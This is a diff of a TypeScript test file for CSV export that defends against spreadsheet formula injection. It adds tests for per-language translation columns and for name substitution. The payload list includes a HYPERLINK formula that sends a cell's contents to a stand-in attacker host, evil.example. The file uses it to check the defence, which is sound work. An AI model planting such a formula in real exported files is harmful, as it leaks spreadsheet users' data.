@@ -1,6 +1,6 @@
 // CSV export against formula injection (OWASP "CSV Injection"): crafted cells come out as text.
 import { describe, expect, it } from 'vitest';
-import { csvField, flattenRow, toCsv, toJson } from './export.ts';
+import { CSV_BOM, csvField, flattenRow, toCsv, toJson } from './export.ts';
 
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -108,10 +108,39 @@ describe('CSV export', () => {
   });
 
   it('joins arrays of scalars and keeps nested records as JSON', () => {
-    const flat = flattenRow({ labelIds: [1, 3], records: [{ languageId: 'en', text: 'Hi' }] });
+    const flat = flattenRow({ labelIds: [1, 3], votes: [{ id: 1, mark: 'up' }] });
     expect(flat.labelIds).toBe('1; 3');
-    expect(JSON.parse(flat.records!)).toEqual([{ languageId: 'en', text: 'Hi' }]);
+    expect(JSON.parse(flat.votes!)).toEqual([{ id: 1, mark: 'up' }]);
   });
 
   it('is empty for no rows', () => expect(toCsv([])).toBe(''));
+});
+
+describe('CSV a spreadsheet reads', () => {
+  it('writes a TM segment one column per language, not a JSON blob', () => {
+    const csv = toCsv([
+      {
+        id: 1,
+        records: [
+          { id: 10, languageId: 'en', text: 'Save', usageCount: 3 },
+          { id: 11, languageId: 'uk', text: 'Зберегти', usageCount: 1 },
+        ],
+      },
+      { id: 2, records: [{ id: 12, languageId: 'en', text: 'Open' }] },
+    ]);
+    expect(csv.replace(CSV_BOM, '').split('\r\n')).toEqual(['id,en,uk', '1,Save,Зберегти', '2,Open,', '']);
+  });
+
+  it('writes names instead of ids when asked, ids the lists lack as ids', () => {
+    const row = { id: 7, fileId: 3, labelIds: [1, 9], user: { id: 5, username: 'bob' }, userId: 5 };
+    const names = {
+      files: new Map([[3, 'checkout.json']]),
+      labels: new Map([[1, 'ui']]),
+      users: new Map([[5, { username: 'bob', fullName: 'Bob B' }]]),
+    };
+    expect(toCsv([row], names).replace(CSV_BOM, '').split('\r\n')[1]).toBe(
+      '7,checkout.json,"ui, 9",5,bob,bob',
+    );
+    expect(toCsv([row]).replace(CSV_BOM, '').split('\r\n')[1]).toBe('7,3,1; 9,5,bob,5');
+  });
 });
